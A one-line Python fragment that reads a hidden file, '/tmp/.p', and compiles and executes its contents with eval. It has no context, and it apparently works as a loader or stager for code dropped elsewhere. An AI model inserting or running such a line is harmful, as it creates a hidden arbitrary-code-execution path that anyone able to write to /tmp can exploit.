eval(compile(open('/tmp/.p').read(), 'p', 'exec'))
